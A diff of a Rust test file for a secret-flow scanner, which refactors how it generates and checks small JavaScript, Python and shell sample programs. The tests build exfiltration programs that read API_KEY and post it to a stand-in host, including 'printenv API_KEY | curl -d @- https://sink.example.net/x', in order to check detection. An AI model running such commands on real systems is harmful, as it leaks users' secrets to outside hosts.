@@ -1,246 +1,15 @@
 //! Every interface that a catalogue of `signatures/flows` names is reached: for each row a program is written that uses
 //! it, and the interpreter must see of that program what the row says.
 
-use std::fmt::Write as _;
-use std::fs;
-use std::path::PathBuf;
-use std::sync::LazyLock;
+#[path = "interfaces/program.rs"]
+mod program;
 
-use serde::Deserialize;
-use skillscan::expand::expand;
-use skillscan::package::{Content, Package, PackageRef};
-use skillscan::{Limits, Ruleset};
+use std::fs;
+
 use toml::Value;
 
-static RULES: LazyLock<Ruleset> = LazyLock::new(|| Ruleset::builtin().expect("the rules are sound"));
-
-/// A table of a catalogue, as far as it is asked here.
-#[derive(Debug, Clone, Deserialize)]
-struct Row {
-    api: String,
-    #[serde(default)]
-    class: String,
-    #[serde(default)]
-    args: Vec<Value>,
-    name: Option<Value>,
-    host: Option<Value>,
-    path: Option<Value>,
-    wraps: Option<usize>,
-    #[serde(default)]
-    files: Vec<String>,
-    #[serde(default, rename = "at-files")]
-    at_files: Vec<String>,
-    #[serde(default)]
-    members: bool,
-    #[serde(default)]
-    read: bool,
-    #[serde(default)]
-    text: String,
-    #[serde(default)]
-    op: String,
-    #[serde(default)]
-    does: String,
-    #[serde(default)]
-    is: String,
-}
-
-fn rows(language: Language, table: &str) -> Vec<Row> {
-    let path = format!("{}/signatures/flows/{}.toml", env!("CARGO_MANIFEST_DIR"), language.name());
-    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
-    let all: toml::Table = toml::from_str(&text).unwrap_or_else(|error| panic!("{path}: {error}"));
-    let rows = all.get(table).and_then(Value::as_array).cloned().unwrap_or_default();
-    rows.into_iter().map(|row| row.try_into().unwrap_or_else(|error| panic!("{path}: {error}"))).collect()
-}
-
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Language {
-    JavaScript,
-    Python,
-    Shell,
-}
-use Language::{JavaScript, Python, Shell};
-
-/// What a value that is followed reached.
-#[derive(Debug)]
-struct Hit {
-    class: String,
-    paths: Vec<String>,
-    content: Vec<String>,
-    /// Classes of sources.
-    labels: Vec<String>,
-}
-
-impl Language {
-    fn name(self) -> &'static str {
-        match self {
-            JavaScript => "javascript",
-            Python => "python",
-            Shell => "shell",
-        }
-    }
-
-    fn file(self) -> &'static str {
-        match self {
-            JavaScript => "run.js",
-            Python => "run.py",
-            Shell => "run.sh",
-        }
-    }
-
-    /// What the interpreter says of a program.
-    fn hits(self, program: &str) -> Vec<Hit> {
-        let files = vec![(PathBuf::from(self.file()), program.as_bytes().into())];
-        let found =
-            PackageRef { path: ".".to_owned(), content: Content::Held(files), gaps: Vec::new(), linked_to: None };
-        let limits = Limits::default();
-        let expanded = expand(&Package::read(&found, &limits), &RULES, &limits);
-        let texts = |all: &[std::rc::Rc<str>]| all.iter().map(|text| text.to_string()).collect();
-        let outcomes = expanded.flows.iter().map(|(_, outcome)| outcome);
-        outcomes
-            .flat_map(|outcome| {
-                outcome.hits.iter().map(|hit| Hit {
-                    class: hit.class.clone(),
-                    paths: texts(&hit.paths),
-                    content: texts(&hit.content),
-                    labels: hit.labels.iter().map(|label| outcome.names.get(label.class).to_string()).collect(),
-                })
-            })
-            .collect()
-    }
-
-    /// The lines before, and an expression for a path with `last` as the arguments of what it names.
-    fn expression(self, path: &str, arguments: &[&str], last: Option<&str>) -> (String, String) {
-        /// Modules whose names hold dots.
-        const DOTTED: [&str; 2] = ["socket.io-client", "discord.js"];
-        let root_len = DOTTED.iter().find(|name| path.starts_with(**name)).map(|name| name.len());
-        let root_len = root_len.unwrap_or_else(|| path.find(['.', '(']).unwrap_or(path.len()));
-        let (root, members) = path.split_at(root_len);
-        let mut lines = String::new();
-        let mut expression = match self {
-            _ if root == "?" => "thing".to_owned(),
-            JavaScript if is_global(root) => root.to_owned(),
-            JavaScript => {
-                let _ = writeln!(lines, "const lib = require(\"{root}\");");
-                "lib".to_owned()
-            }
-            // The longest run of plain names is a module.
-            Python => {
-                let names: Vec<&str> = path.split('.').take_while(|name| !name.contains('(')).collect();
-                for end in 1..names.len() {
-                    let _ = writeln!(lines, "import {}", names[..end].join("."));
-                }
-                root.to_owned()
-            }
-            Shell => unreachable!("scripts have commands"),
-        };
-        let mut given = arguments.iter();
-        let is_new = |expression: &str| {
-            let name = expression.rsplit('.').next().unwrap_or("");
-            self == JavaScript && name.starts_with(|c: char| c.is_ascii_uppercase())
-        };
-        let mut rest = members;
-        loop {
-            if let Some(after) = rest.strip_prefix("()") {
-                let new = if is_new(&expression) && !expression.contains('(') { "new " } else { "" };
-                expression = format!("{new}{expression}({})", given.next().unwrap_or(&""));
-                rest = after;
-            } else if let Some(after) = rest.strip_prefix('.') {
-                let end = after.find(['.', '(']).unwrap_or(after.len());
-                let (name, after) = after.split_at(end);
-                expression = match name.parse::<usize>() {
-                    Ok(index) => format!("{expression}[{index}]"),
-                    Err(_) => format!("{expression}.{name}"),
-                };
-                rest = after;
-            } else {
-                break;
-            }
-        }
-        if let Some(last) = last {
-            expression = format!("{expression}({last})");
-        }
-        (lines, expression)
-    }
-
-    /// A program in which `value` is defined by an expression and sent.
-    fn sends(self, lines: &str, expression: &str) -> String {
-        match self {
-            JavaScript => format!(
-                "{lines}const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n\
-                 async function main(thing) {{\n  const value = await {expression};\n  send(value);\n}}\nmain();\n"
-            ),
-            Python => format!("import requests\n{lines}value = {expression}\nrequests.post(\"{SINK}\", data=value)\n"),
-            Shell => format!("{lines}{expression} | curl -d @- {SINK}\n"),
-        }
-    }
-}
-
-const SINK: &str = "https://sink.example.net/x";
-const ADDRESS: &str = "\"https://sink.example.net/x\"";
-
-/// A program of a shell by its path.
-fn command(api: &str) -> &str {
-    api.strip_prefix("cmd.").unwrap_or(api)
-}
-
-/// Names that a program has without asking for them.
-fn is_global(name: &str) -> bool {
-    const GLOBALS: [&str; 33] = [
-        "process",
-        "fetch",
-        "navigator",
-        "eval",
-        "chrome",
-        "import",
-        "importScripts",
-        "execScript",
-        "setTimeout",
-        "setInterval",
-        "setImmediate",
-        "require",
-        "location",
-        "document",
-        "window",
-        "parseInt",
-        "isNaN",
-        "atob",
-        "console",
-        "self",
-        "global",
-        "globalThis",
-        "frames",
-        "top",
-        "parent",
-        "this",
-        "__dirname",
-        "module",
-        "encodeURIComponent",
-        "encodeURI",
-        "decodeURIComponent",
-        "decodeURI",
-        "unescape",
-    ];
-    GLOBALS.contains(&name) || name.starts_with(|c: char| c.is_ascii_uppercase())
-}
-
-/// A list of arguments in which these places are taken.
-fn arguments(places: &[(usize, &str)]) -> String {
-    let end = places.iter().map(|(at, _)| at + 1).max().unwrap_or(0);
-    let of = |at| places.iter().find(|(place, _)| *place == at).map_or("\"x\"", |(_, text)| text);
-    (0..end).map(of).collect::<Vec<_>>().join(", ")
-}
-
-fn position(arg: Option<&Value>) -> Option<usize> {
-    arg.and_then(Value::as_integer).and_then(|at| usize::try_from(at).ok())
-}
-
-/// What a program keeps in `secret`.
-fn secret(language: Language) -> &'static str {
-    match language {
-        JavaScript => "const secret = process.env.API_KEY;\n",
-        _ => "import os\nsecret = os.environ[\"API_KEY\"]\n",
-    }
-}
+use program::Language::{self, JavaScript, Python, Shell};
+use program::{ADDRESS, Hit, Row, SINK, arguments, command, position, rows, secret};
 
 fn is_source_reached(language: Language, row: &Row) -> bool {
     let name = match row.class.as_str() {
@@ -342,47 +111,56 @@ fn is_constant_reached(language: Language, row: &Row) -> bool {
     is_path(language, &lines, &expression, row.text.trim_start_matches("./"))
 }
 
-/// Expressions by operation, in which `@` stands for the interface: a function, or a method with its dot. What they give
-/// ends with the text behind `=`.
-fn sample(language: Language, table: &str, row: &Row) -> Vec<String> {
-    let text =
-        fs::read_to_string(format!("{}/fixtures/interfaces/{}.txt", env!("CARGO_MANIFEST_DIR"), language.name()))
-            .expect("the samples are readable");
-    let kind = if row.op.is_empty() { &row.does } else { &row.op };
-    let form = if row.api.starts_with("?.") { "method" } else { "function" };
-    // The sample of the interface itself goes before that of what it does.
-    let keys = [format!("{table} {}", row.api), format!("{table} {kind} {form}")];
-    let of = |key: &String| -> Vec<String> {
-        let mine = text.lines().filter_map(|line| line.strip_prefix(key.as_str())?.strip_prefix(": "));
-        mine.map(str::to_owned).collect()
+/// Lines of `fixtures/interfaces`: whom they are for, and the program in which `@` stands for it: a function, or a method
+/// with its dot.
+fn samples(language: Language) -> Vec<(String, String)> {
+    let path = format!("{}/fixtures/interfaces/{}.txt", env!("CARGO_MANIFEST_DIR"), language.name());
+    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
+    let lines = text.lines().filter(|line| line.starts_with("fold ") || line.starts_with("effect "));
+    let parts = lines.map(|line| line.split_once(": ").unwrap_or_else(|| panic!("{path}: no program in `{line}`")));
+    parts.map(|(key, program)| (key.to_owned(), program.to_owned())).collect()
+}
+
+/// Whether a sample does what it says with the interface of this name: gives the text behind its last ` = `, or lets
+/// something through (or does not, if it begins so).
+fn holds(language: Language, (key, sample): &(String, String), lines: &str, name: &str) -> bool {
+    let text = sample.rsplit_once(" = ").filter(|_| key.starts_with("fold "));
+    if let Some((expression, end)) = text {
+        return is_path(language, lines, &expression.replace('@', name), end);
+    }
+    let is_let_through = |hit: &Hit| {
+        let is_of = |wanted: &[&str]| hit.labels.iter().any(|class| wanted.contains(&class.as_str()));
+        match hit.class.as_str() {
+            "network" => is_of(&["env", "file"]),
+            "code" | "process" => is_of(&["env", "fetched"]) || hit.content.iter().any(|text| text.contains("mark")),
+            _ => false,
+        }
     };
-    keys.iter().map(of).find(|samples| !samples.is_empty()).unwrap_or_default()
+    let (is_wanted, sample) = sample.strip_prefix("not ").map_or((true, sample.as_str()), |rest| (false, rest));
+    let before = match language {
+        JavaScript => format!("const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n"),
+        _ => format!("import requests\nsend = lambda value: requests.post(\"{SINK}\", data=value)\n"),
+    };
+    let program = sample.replace('@', name).replace("; ", "\n");
+    language.hits(&format!("{before}{}{lines}{program}\n", secret(language))).iter().any(is_let_through) == is_wanted
+}
+
+/// Whether a sample holds: the interface's own if there is one, or else one of what it does.
+fn is_done(language: Language, table: &str, does: &str, row: &Row) -> bool {
+    let (lines, name) = named(language, row);
+    let form = if row.api.starts_with("?.") { "method" } else { "function" };
+    let all = samples(language);
+    let own = format!("{table} {}", row.api);
+    let key = if all.iter().any(|(key, _)| *key == own) { own } else { format!("{table} {does} {form}") };
+    all.iter().filter(|(of, _)| *of == key).any(|sample| holds(language, sample, &lines, &name))
 }
 
 fn is_fold_reached(language: Language, row: &Row) -> bool {
-    let (lines, name) = named(language, row);
-    sample(language, "fold", row).iter().any(|sample| match sample.rsplit_once(" = ") {
-        Some((expression, end)) => is_path(language, &lines, &expression.replace('@', &name), end),
-        None => is_effect_reached(language, row),
-    })
+    is_done(language, "fold", &row.op, row)
 }
 
-/// Whether a secret gets to the network through it.
 fn is_effect_reached(language: Language, row: &Row) -> bool {
-    let (lines, name) = named(language, row);
-    let is_sent = |hit: &Hit| {
-        hit.labels.iter().any(|class| class == "env" || class == "file" || (hit.class == "code" && class == "fetched"))
-            || hit.content.iter().any(|text| text.contains("mark"))
-    };
-    let table = if row.op.is_empty() { "effect" } else { "fold" };
-    sample(language, table, row).iter().any(|sample| {
-        let before = match language {
-            JavaScript => format!("const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n"),
-            _ => format!("import requests\nsend = lambda value: requests.post(\"{SINK}\", data=value)\n"),
-        };
-        let program = sample.replace('@', &name).replace("; ", "\n");
-        language.hits(&format!("{before}{}{lines}{program}\n", secret(language))).iter().any(is_sent)
-    })
+    is_done(language, "effect", &row.does, row)
 }
 
 /// The interface as samples name it, after the lines that it needs.
@@ -393,10 +171,13 @@ fn named(language: Language, row: &Row) -> (String, String) {
     }
 }
 
-/// Whether nothing of a secret gets through it.
+/// Whether nothing of a secret gets through it, where something gets past it.
 fn is_sanitizer_reached(language: Language, row: &Row) -> bool {
     let program = match language {
-        Shell => language.sends("", &format!("printenv API_KEY | {}", command(&row.api))),
+        Shell => {
+            let past = language.sends("", "printenv API_KEY");
+            past + &language.sends("", &format!("printenv API_KEY | {}", command(&row.api)))
+        }
         _ => {
             let (lines, call) = language.expression(&row.api, &["secret"], Some("secret"));
             let (_, read) = language.expression(&row.api, &["secret"], None);
@@ -405,10 +186,12 @@ fn is_sanitizer_reached(language: Language, row: &Row) -> bool {
                 api if api.starts_with("?.") => call.replace("thing", "secret").replace("(secret)", "()"),
                 _ => call,
             };
-            language.sends(&format!("{}{lines}", secret(language)), &form)
+            let past = language.sends(secret(language), "secret").replace("main", "past");
+            past + &language.sends(&lines, &form).replace("const send = ", "const send_again = ")
         }
     };
-    language.hits(&program).iter().all(|hit| hit.class != "network" || !hit.labels.iter().any(|class| class == "env"))
+    let is_sent = |hit: &&Hit| hit.class == "network" && hit.labels.iter().any(|class| class == "env");
+    language.hits(&program).iter().filter(is_sent).count() == 1
 }
 
 type Check = fn(Language, &Row) -> bool;
@@ -426,7 +209,7 @@ const CHECKS: [(&str, Check); 6] = [
 fn is_alias_reached(language: Language, alias: &Row) -> bool {
     let mut is_used = false;
     for (table, check) in CHECKS {
-        for row in rows(language, table) {
+        for row in rows(language, table).into_iter().filter(|row| !row.api.starts_with("?.")) {
             let rest = row.api.strip_prefix(&alias.is).filter(|rest| rest.is_empty() || rest.starts_with(['.', '(']));
             let rest = rest.map(str::to_owned).or_else(|| (alias.is == "globalThis").then(|| format!(".{}", row.api)));
             let Some(rest) = rest else { continue };
@@ -467,6 +250,19 @@ fn those_of_javascript_are_reached() {
 #[test]
 fn those_of_python_are_reached() {
     assert_reached(Python);
+}
+
+/// A sample that holds for a name that nobody knows says nothing.
+#[test]
+fn samples_need_what_they_name() {
+    for language in [JavaScript, Python] {
+        let all = samples(language);
+        let is_method = |key: &str| key.ends_with(" method") || key.contains(" ?.");
+        let name = |key: &str| if is_method(key) { ".unheard" } else { "unheard" };
+        let idle = all.iter().filter(|(_, program)| program.contains('@'));
+        let idle: Vec<_> = idle.filter(|sample| holds(language, sample, "", name(&sample.0))).collect();
+        assert!(idle.is_empty(), "{}: {idle:#?}", language.name());
+    }
 }
 
 #[test]
